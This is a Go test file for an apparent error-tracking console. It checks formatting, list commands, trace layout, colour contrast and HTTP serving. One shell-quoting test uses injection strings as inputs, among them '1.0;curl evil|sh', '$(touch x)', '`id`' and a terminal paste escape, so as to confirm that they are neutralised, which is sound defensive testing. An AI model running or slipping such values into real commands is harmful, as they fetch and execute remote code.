package console

import (
	"bytes"
	"encoding/json"
	"fmt"
	"math"
	"net/http"
	"net/http/httptest"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"strconv"
	"strings"
	"testing"
	"time"

	"firethorn/internal/core/shell"
)

// call is a function of src/core, its arguments, and what it must give.
type call struct {
	want any
	name string
	args []any
}

// check runs calls of one module in Node and compares as JSON.
func check(t *testing.T, module string, calls []call) {
	t.Helper()
	if _, err := os.Stat("../node_modules/typescript"); err != nil {
		if os.Getenv("FIRETHORN_CONSOLE") == "required" {
			t.Fatal(err)
		}
		t.Skip("npm ci was not run")
	}
	var in []any
	for _, c := range calls {
		in = append(in, append([]any{c.name}, c.args...))
	}
	raw, err := json.Marshal(in)
	if err != nil {
		t.Fatal(err)
	}
	cmd := exec.Command("node", "call.mjs", "src/core/"+module+".ts")
	cmd.Env = append(os.Environ(), "TZ=UTC")
	cmd.Stdin = bytes.NewReader(raw)
	var errs bytes.Buffer
	cmd.Stderr = &errs
	out, err := cmd.Output()
	if err != nil {
		t.Fatalf("%v\n%s", err, errs.String())
	}
	var got []json.RawMessage
	if err := json.Unmarshal(out, &got); err != nil || len(got) != len(calls) {
		t.Fatalf("%d results for %d calls, %v", len(got), len(calls), err)
	}
	for i, c := range calls {
		want, err := json.Marshal(c.want)
		if err != nil {
			t.Fatal(err)
		}
		var a, b any
		if json.Unmarshal(got[i], &a) != nil || json.Unmarshal(want, &b) != nil {
			t.Fatalf("no JSON: %s, %s", got[i], want)
		}
		ja, _ := json.Marshal(a) // both were JSON before
		jb, _ := json.Marshal(b)
		if !bytes.Equal(ja, jb) {
			t.Errorf("%s(%v) = %s, want %s", c.name, c.args, ja, jb)
		}
	}
}

type m = map[string]any

// Console and service quote alike (internal/core/shell), so that a command is as
// harmless wherever it is copied from.
func TestShell_QuotesAsTheServiceDoes(t *testing.T) {
	var calls []call
	for _, text := range []string{"4.2.0", "1.0;curl evil|sh", "$(touch x)", "`id`", "a\nb", "it's", `"x"`, `\`, `\'`, "", "-rf", "~", "a=b", "{a,b}", "\x03\x15rm\n", "\x1b[201~x", "\u202eabc", "\u2028", "é\x07", "ü", "a\tb"} {
		calls = append(calls, call{shell.Quote(text), "shell", []any{text}}, call{shell.Option("--release", text), "option", []any{"--release", text}}, call{shell.Arguments("a", text), "args", []any{"a", text}})
	}
	check(t, "shell", calls)
}

func TestFormat(t *testing.T) {
	const now = 1795435200000 // 2026-11-23T12:00:00Z
	check(t, "format", []call{
		{"1,204", "count", []any{1204}}, {"9,999", "count", []any{9999}}, {"12.4 k", "count", []any{12400}}, {"1.2 M", "count", []any{1234567}},
		{"1 user", "counted", []any{1, "user"}}, {"87 users", "counted", []any{87, "user"}},
		{"just now", "ago", []any{"2026-11-23T11:59:31Z", now}}, {"2 min ago", "ago", []any{"2026-11-23T11:57:59Z", now}}, {"3 h ago", "ago", []any{"2026-11-23T08:59:00Z", now}},
		{"30 h ago", "ago", []any{"2026-11-22T06:00:00Z", now}}, {"20 days ago", "ago", []any{"2026-11-03T12:00:00Z", now}}, {"just now", "ago", []any{"2026-11-23T13:00:00Z", now}},
		{"3 Nov", "day", []any{"2026-11-03T23:59:59Z"}},
		{"−1.7 s", "before", []any{"2026-11-23T11:59:58.300Z", "2026-11-23T12:00:00Z"}}, {"−5 min", "before", []any{"2026-11-23T11:55:00Z", "2026-11-23T12:00:00Z"}}, {"", "before", []any{"nonsense", "2026-11-23T12:00:00Z"}},
		{"abc…xyz", "cut", []any{"abcdefghuvwxyz", 7}}, {"short", "cut", []any{"short", 7}},
		{"4.2.1", "nextRelease", []any{"4.2.0"}}, {"v10", "nextRelease", []any{"v9"}}, {"4.3.1", "nextRelease", []any{"4.3.0-rc.1"}}, {"", "nextRelease", []any{""}}, {"", "nextRelease", []any{"2026.11.23"}}, {"", "nextRelease", []any{"2026-11-23"}}, {"", "nextRelease", []any{"9f1c2ab"}}, {"", "nextRelease", []any{"20261123"}}, {"", "nextRelease", []any{"nightly-7"}}, {"1.10", "nextRelease", []any{"1.9+build.7"}},
	})
}

func TestStem(t *testing.T) {
	days := []m{{"day": "2026-11-22", "events": 0, "users": 0}, {"day": "2026-11-23", "events": 100, "users": 4}}
	scale := m{"events": 100, "users": 4}
	check(t, "stem", []call{
		{scale, "scaleOf", []any{[][]m{days}}},
		{m{"events": 1, "users": 1}, "scaleOf", []any{[][]m{}}},
		{[]m{{"x": 75, "top": 8, "r": 4, "day": days[1]}}, "marks", []any{days, scale, 100, 40, 4}},
		{"2 days: 100 events, most on 23 Nov; in all 1,204 events, 87 users", "inWords", []any{days, 1204, 87}},
	})
}

func TestTrace(t *testing.T) {
	own, react, run := m{"kind": "own", "file": "src/a.ts"}, m{"kind": "vendor", "file": "node_modules/react-dom/x.js"}, m{"kind": "runtime", "file": "<anonymous>"}
	check(t, "trace", []call{
		{[]m{{"folded": []m{run}, "words": "1 frame of the runtime"}, {"frame": own}, {"folded": []m{react, react, run}, "words": "3 frames of react-dom, the runtime"}}, "layOut", []any{[]m{run, own, react, react, run}}},
		{[]m{}, "layOut", []any{[]m{}}},
		{"Berth.assign", "called", []any{m{"function": "Berth.assign", "within": "x"}}},
		{"(anonymous in priceOf)", "called", []any{m{"function": "", "within": "priceOf"}}},
		{"(anonymous)", "called", []any{m{"function": ""}}},
		{"(unknown, at rows[0].tide)", "called", []any{m{"function": "", "statement": "rows[0].tide", "why_raw": "no bundle"}}},
		{"(unknown)", "called", []any{m{"function": "", "why_raw": "no map"}}},
		{[]m{{"name": "Own", "facts": []m{{"name": "berth.zone", "value": "C"}}}, {"name": "Request", "facts": []m{{"name": "url.full", "value": "x, y"}}}, {"name": "Device", "facts": []m{{"name": "os.name", "value": "Android"}}}},
			"groupFacts", []any{m{"os.name": "Android"}, m{"url.full": []string{"x", "y"}, "berth.zone": "C"}}},
	})
}

func TestList(t *testing.T) {
	usual := m{"state": "open", "order": "impact", "search": "", "window": ""}
	special := m{"state": "all", "order": "users", "search": "it's <b>", "window": "14d"}
	check(t, "list", []call{
		{"firethorn issue list --project quayside", "listCommand", []any{"quayside", usual}},
		{`firethorn issue list --project quayside --state all --order users --search 'it'\''s <b>' --window 14d`, "listCommand", []any{"quayside", special}},
		{"firethorn facets --issue quayside/3 --search plan:gold --against others", "searchCommand", []any{"facets", m{"project": "quayside", "issue": 3, "search": "plan:gold", "window": ""}, "--against others"}},
		{`curl -H "Authorization: Bearer $FIRETHORN_TOKEN" 'http://x/api/projects/quayside/users?window=all'`, "searchRequest", []any{"http://x", "/users", m{"project": "quayside", "search": "", "window": "all"}}},
		{m{"rows": []m{{"id": "b"}, {"id": "a"}}, "waiting": 1}, "merge", []any{[]string{"b", "gone", "a"}, []m{{"id": "a"}, {"id": "new"}, {"id": "b"}}}},
		{m{"rows": []m{{"id": "a"}}, "waiting": 0}, "merge", []any{nil, []m{{"id": "a"}}}},
		{[]string{"b"}, "goneFrom", []any{[]m{{"id": "a"}, {"id": "b"}}, []m{{"id": "a"}, {"id": "c"}}}},
		{"b", "standOn", []any{[]string{"a", "b", "c"}, "b", 0}}, {"c", "standOn", []any{[]string{"a", "c"}, "b", 1}}, {"c", "standOn", []any{[]string{"a", "c"}, "b", 7}}, {nil, "standOn", []any{[]string{}, "b", 1}},
	})
}

func TestMerging(t *testing.T) {
	list := []m{{"id": "q/7", "impact": 40, "events": 5}, {"id": "q/3", "impact": 55, "events": 1}, {"id": "q/2", "impact": 55, "events": 1}}
	check(t, "merging", []call{
		{"q/2", "heaviest", []any{list}}, {"", "heaviest", []any{[]m{}}},
		{"Merge", "mergeWords", []any{[]string{"q/7"}, ""}}, {"Merge q/7 into q/3", "mergeWords", []any{[]string{"q/7"}, "q/3"}}, {"Merge 2 issues into q/3", "mergeWords", []any{[]string{"q/7", "q/2"}, "q/3"}},
		{[]string{"q/7", "q/3"}, "toggle", []any{[]string{"q/7"}, "q/3"}}, {[]string{"q/7"}, "toggle", []any{[]string{"q/7", "q/3"}, "q/3"}},
	})
}

// Every pair of colours that represents text in app.css must have a contrast
// of 4.5 to 1 (WCAG 2.2, 1.4.3).
func TestReceived(t *testing.T) {
	counts := func(stored, dropped int) m {
		return m{"stored": stored, "dropped": dropped, "over_allowance": 0, "refused": 0}
	}
	hour := func(at string, stored, dropped int) m {
		h := counts(stored, dropped)
		h["hour"] = at
		return h
	}
	bar := func(from string, hours, stored, dropped int) m {
		return m{"from": from, "hours": hours, "counts": counts(stored, dropped), "total": stored + dropped}
	}
	check(t, "received", []call{
		{[]m{bar("2026-11-23T09:00:00.000Z", 1, 0, 0), bar("2026-11-23T10:00:00.000Z", 1, 7, 3), bar("2026-11-23T11:00:00.000Z", 1, 0, 0)}, "bars",
			[]any{[]m{hour("2026-11-23T10:00:00Z", 7, 3), hour("2026-11-24T10:00:00Z", 9, 9)}, "2026-11-23T09:00:00Z", "2026-11-23T12:00:00Z"}},
	})
}

func TestReceived_DaysBeginAtMidnight(t *testing.T) {
	var want []m
	for d := 14; d <= 22; d++ {
		stored := 0
		if d == 15 {
			stored = 5
		}
		want = append(want, m{"from": fmt.Sprintf("2026-11-%dT00:00:00.000Z", d), "hours": 24, "counts": m{"stored": stored, "dropped": 0, "over_allowance": 0, "refused": 0}, "total": stored})
	}
	hours := []m{{"hour": "2026-11-15T00:00:00Z", "stored": 2, "dropped": 0, "over_allowance": 0, "refused": 0}, {"hour": "2026-11-15T23:00:00Z", "stored": 3, "dropped": 0, "over_allowance": 0, "refused": 0}}
	check(t, "received", []call{{want, "bars", []any{hours, "2026-11-14T13:00:00Z", "2026-11-22T13:00:00Z"}}})
}

func TestRules(t *testing.T) {
	const text = "intake:\n  - name: x\n    when: crawlr(attr(\"a\"))\n"
	check(t, "rules", []call{
		{m{"from": 30, "to": 36}, "span", []any{text, m{"line": 3, "column": 11}}},
		{m{"from": 0, "to": 6}, "span", []any{text, m{"line": 1, "column": 1}}},
		{m{"from": len(text), "to": len(text)}, "span", []any{text, m{"line": 99, "column": 99}}},
		{m{"from": 6, "to": 8}, "span", []any{"🛳 x: yy", m{"line": 1, "column": 6}}},
		{"No stored event to try them on yet.", "verdict", []any{0, 0}}, {"All 2,000 events would be accepted.", "verdict", []any{2000, 2000}},
		{"1,204 of 2,000 events would be accepted, 796 dropped.", "verdict", []any{2000, 1204}},
	})
}

func TestColours_HaveEnoughContrast(t *testing.T) {
	css, err := os.ReadFile("src/app.css")
	if err != nil {
		t.Fatal(err)
	}
	themes := regexp.MustCompile(`(?s)name: "(\w+)".*?--noise`).FindAllStringSubmatch(string(css), -1)
	if len(themes) != 2 {
		t.Fatalf("%d themes", len(themes))
	}
	for _, theme := range themes {
		colour := map[string]float64{}
		for _, c := range regexp.MustCompile(`--color-([\w-]+): #([0-9A-Fa-f]{6})`).FindAllStringSubmatch(theme[0], -1) {
			colour[c[1]] = luminance(t, c[2])
		}
		pairs := [][2]string{}
		for _, ground := range []string{"base-100", "base-200"} {
			for _, ink := range []string{"base-content", "primary", "secondary", "accent", "info", "warning", "error", "success"} {
				pairs = append(pairs, [2]string{ink, ground})
			}
		}
		for _, c := range []string{"primary", "accent", "info", "warning", "error", "success", "neutral"} {
			pairs = append(pairs, [2]string{c + "-content", c})
		}
		for _, p := range pairs {
			a, b := colour[p[0]], colour[p[1]]
			if ratio := (max(a, b) + 0.05) / (min(a, b) + 0.05); ratio < 4.5 {
				t.Errorf("%s: %s on %s has a contrast of %.2f", theme[1], p[0], p[1], ratio)
			}
		}
	}
}

func luminance(t *testing.T, hex string) float64 {
	t.Helper()
	n, err := strconv.ParseUint(hex, 16, 32)
	if err != nil {
		t.Fatal(err)
	}
	lin := func(c uint64) float64 {
		v := float64(c&0xff) / 255
		if v <= 0.04045 {
			return v / 12.92
		}
		return math.Pow((v+0.055)/1.055, 2.4)
	}
	return 0.2126*lin(n>>16) + 0.7152*lin(n>>8) + 0.0722*lin(n)
}

func TestHandler_ServesFilesAndPages(t *testing.T) {
	h, err := Handler()
	if err != nil {
		if os.Getenv("FIRETHORN_CONSOLE") == "required" {
			t.Fatal(err)
		}
		t.Skip(err)
	}
	get := func(path string, headers ...string) *http.Response {
		req := httptest.NewRequest(http.MethodGet, path, nil)
		for i := 0; i < len(headers); i += 2 {
			req.Header.Set(headers[i], headers[i+1])
		}
		w := httptest.NewRecorder()
		h.ServeHTTP(w, req)
		return w.Result()
	}
	page := get("/p/quayside/issues", "Accept", "text/html", "Accept-Encoding", "gzip, br")
	if page.StatusCode != 200 || page.Header.Get("Cache-Control") != "no-cache" || !strings.Contains(page.Header.Get("Content-Security-Policy"), "default-src 'none'") {
		t.Errorf("a page: %d %v", page.StatusCode, page.Header)
	}
	files, err := filepath.Glob("dist/app/assets/index-*.js")
	if err != nil || len(files) != 1 {
		t.Fatalf("%v, %v", files, err)
	}
	asset := strings.TrimPrefix(files[0], "dist/app")
	js := get(asset, "Accept-Encoding", "gzip, br")
	if js.StatusCode != 200 || js.Header.Get("Content-Encoding") != "br" || !strings.Contains(js.Header.Get("Cache-Control"), "immutable") {
		t.Errorf("a script: %d %v", js.StatusCode, js.Header)
	}
	if again := get(asset, "Accept-Encoding", "gzip, br", "If-None-Match", js.Header.Get("ETag")); again.StatusCode != 304 {
		t.Errorf("the same again: %d", again.StatusCode)
	}
	for path, accept := range map[string]string{"/assets/gone.js": "*/*", "/assets/gone": "text/html", "/nothing": "application/json", "/../embed.go": "text/plain"} {
		if res := get("http://x"+path, "Accept", accept); res.StatusCode != 404 {
			t.Errorf("GET %s = %d", path, res.StatusCode)
		}
	}
}

func TestTrial(t *testing.T) {
	outcome := func(events, moved, users, issues, stay, merges, splits int) m {
		return m{"events": events, "moved": moved, "users": users, "issues": issues, "stay": stay, "merges": make([]m, merges), "splits": make([]m, splits)}
	}
	typ, zone := m{"what": "type", "value": "TypeError", "why": "x"}, m{"what": "rule", "value": "C", "why": "y"}
	g := func(state string, more m) m {
		out := m{"state": state, "read": 40, "of": 320, "events": 26, "made": 1, "emptied": 3, "stays": 0}
		for k, v := range more {
			out[k] = v
		}
		return out
	}
	check(t, "trial", []call{
		{"No stored event to try it on yet.", "summary", []any{outcome(0, 0, 0, 0, 0, 0, 0)}},
		{"Nothing would move: all 38 issues stay as they are.", "summary", []any{outcome(665, 0, 0, 38, 38, 0, 0)}},
		{"26 of 1,665 events, of 8 users, would be in another issue: 1 merge, 2 splits; 34 of 38 issues stay as they are.", "summary", []any{outcome(1665, 26, 8, 38, 34, 1, 2)}},
		{"quayside/3", "sideName", []any{"quayside", m{"number": 3}}}, {"a new issue (2)", "sideName", []any{"quayside", m{"new": 2}}},
		{[]m{{"sign": " ", "what": "type", "value": "TypeError"}, {"sign": "+", "what": "rule", "value": "C"}}, "change", []any{[]m{typ}, []m{typ, zone}}},
		{[]m{{"sign": "−", "what": "type", "value": "TypeError"}, {"sign": "+", "what": "rule", "value": "C"}}, "change", []any{[]m{typ}, []m{zone}}},
		{"reading: 40 of 320 variants", "standing", []any{g("reading", nil)}}, {"moving: 26 events so far", "standing", []any{g("moving", nil)}},
		{"26 events moved, 1 issue made, 3 numbers lead to another issue", "standing", []any{g("done", nil)}}, {"nothing had to move", "standing", []any{g("done", m{"events": 0})}},
		{"26 events moved, 1 issue made, 1 number leads to another issue; 1,200 events without a body stayed", "standing", []any{g("done", m{"emptied": 1, "stays": 1200})}},
		{"undone by Oke Farrow", "standing", []any{g("undone", m{"undone_by": "Oke Farrow"})}},
		{"2 s later", "gap", []any{2.2}}, {"40 s before", "gap", []any{-40}}, {"at the same moment", "gap", []any{0.1}},
		{m{"events": []m{{"name": "progress", "data": `{"looked":1}`}}, "rest": "event: tri"}, "takeEvents", []any{"event: progress\ndata: {\"looked\":1}\n\nevent: tri"}},
	})
}

func TestComplete(t *testing.T) {
	words := []m{{"name": "message", "doc": "what it says"}, {"name": `attr("NAME")`, "doc": "an attribute"}, {"name": `TEXT.glob("…")`, "doc": "fits"}}
	labels := func(text string, want ...string) {
		t.Helper()
		cmd := exec.Command("node", "call.mjs", "src/core/complete.ts")
		in, _ := json.Marshal([]any{[]any{"suggest", text, len([]rune(text)), words}}) // plain values
		cmd.Stdin = bytes.NewReader(in)
		out, err := cmd.Output()
		if err != nil {
			t.Fatal(err)
		}
		var got []*struct {
			From    int
			Options []struct{ Label, Apply string }
		}
		if err := json.Unmarshal(out, &got); err != nil {
			t.Fatal(err)
		}
		var have []string
		if got[0] != nil {
			for _, o := range got[0].Options {
				have = append(have, o.Label)
			}
		}
		for _, w := range want {
			if !strings.Contains(" "+strings.Join(have, " ")+" ", " "+w+" ") {
				t.Errorf("%q offers %v, want %s", text, have, w)
			}
		}
		if want == nil && have != nil {
			t.Errorf("%q offers %v, want nothing", text, have)
		}
	}
	labels("gr", "grouping", "frames")
	labels("grouping:\n  - na", "name", "extend", "replace", "headline")
	labels("frames:\n  - name: x\n    do: l", "look-through", "own")
	labels("intake:\n  - name: x\n    do: ", "drop", "keep")
	labels("grouping:\n  - name: x\n    when: mes", "message", "attr")
	labels("grouping:\n  - name: x\n    when: origin.f", "function", "module")
	labels("grouping:\n  - name: x\n    when: |\n      frames.", "exists", "size")
	labels("grouping:\n  - name: x\n    extend: zone ${mess", "message", "attr")
	labels("grouping:\n  - name: x\n    extend: zone ${message} mess")
	labels("grouping:\n  - name: x y")
}

func TestReleases_LatestDeploys(t *testing.T) {
	deploy := func(environment, at string) map[string]any {
		return map[string]any{"environment": environment, "at": at, "by": "Oke Farrow"}
	}
	one, two, three := deploy("production", "2026-11-23T10:00:00Z"), deploy("quay", "2026-11-23T11:00:00Z"), deploy("production", "2026-11-23T12:00:00Z")
	check(t, "releases", []call{
		{[]any{}, "latestDeploys", []any{[]any{}}},
		{[]any{two, one}, "latestDeploys", []any{[]any{one, two}}},
		{[]any{three, two}, "latestDeploys", []any{[]any{one, two, three}}},
	})
}

func TestTimeLine(t *testing.T) {
	noon := func(day int) string { return fmt.Sprintf("2026-11-%02dT12:00:00Z", day) }
	now := time.Date(2026, 11, 18, 0, 0, 0, 0, time.UTC).UnixMilli()
	mark := func(kind, at, release, from string) map[string]any {
		return map[string]any{"at": at, "kind": kind, "words": "", "release": release, "from": from}
	}
	marks := []any{mark("release", noon(9), "4.1.0", ""), mark("release", noon(9), "4.1.1", ""), mark("first_seen", noon(10), "4.1.0", ""), mark("deploy", noon(11), "4.1.0", ""), mark("regressed", noon(15), "4.2.0", "4.1.1")}
	days := []any{"2026-11-10", "2026-11-15"}
	got := run(t, "timeline", "timeLine", days, marks, now, 100)
	if n := len(got["days"].([]any)); n != 10 || got["days"].([]any)[0] != "2026-11-09" || got["days"].([]any)[9] != "2026-11-18" {
		t.Errorf("days: %v", got["days"])
	}
	releases := got["releases"].([]any)
	a, b := releases[0].(map[string]any), releases[1].(map[string]any)
	if a["x"] != 5.0 || a["lane"] != 0.0 || b["lane"] != 1.0 {
		t.Errorf("two releases of one time stand at %v and %v", a, b)
	}
	if d := got["decisions"].([]any); len(d) != 1 || d[0].(map[string]any)["x"] != 65.0 {
		t.Errorf("decisions: %v", d)
	}
	if r := got["ranges"].([]any); len(r) != 1 || r[0].(map[string]any)["from"] != 5.0 || r[0].(map[string]any)["to"] != 65.0 || r[0].(map[string]any)["words"] != "between 4.1.1 and 4.2.0" {
		t.Errorf("ranges: %v", r)
	}
	if d := got["deploys"].([]any); len(d) != 1 {
		t.Errorf("deploys: %v", d)
	}
	check(t, "timeline", []call{
		{[]any{map[string]any{"day": "a", "events": 0, "users": 0}, map[string]any{"day": "b", "events": 2, "users": 1}}, "everyDay", []any{[]any{"a", "b"}, []any{map[string]any{"day": "b", "events": 2, "users": 1}}}},
		{"1 day, 1,204 events; releases: 4.2.0 on 2026-11-09; came back on 2026-11-10", "lineInWords", []any{map[string]any{"days": []any{"a"}, "releases": []any{map[string]any{"text": "4.2.0", "at": noon(9)}}, "decisions": []any{map[string]any{"of": mark("regressed", noon(10), "4.2.0", "")}}}, 1204}},
	})
}

// run calls one function of src/core that gives an object.
func run(t *testing.T, module, name string, args ...any) map[string]any {
	t.Helper()
	return given[map[string]any](t, module, name, args...)
}

// given is what one function of src/core gives.
func given[T any](t *testing.T, module, name string, args ...any) T {
	t.Helper()
	if _, err := os.Stat("../node_modules/typescript"); err != nil && os.Getenv("FIRETHORN_CONSOLE") != "required" {
		t.Skip("npm ci was not run")
	}
	raw, err := json.Marshal([]any{append([]any{name}, args...)})
	if err != nil {
		t.Fatal(err)
	}
	cmd := exec.Command("node", "call.mjs", "src/core/"+module+".ts")
	cmd.Stdin = bytes.NewReader(raw)
	out, err := cmd.Output()
	var got []T
	if err != nil || json.Unmarshal(out, &got) != nil {
		t.Fatalf("%v\n%s", err, out)
	}
	return got[0]
}
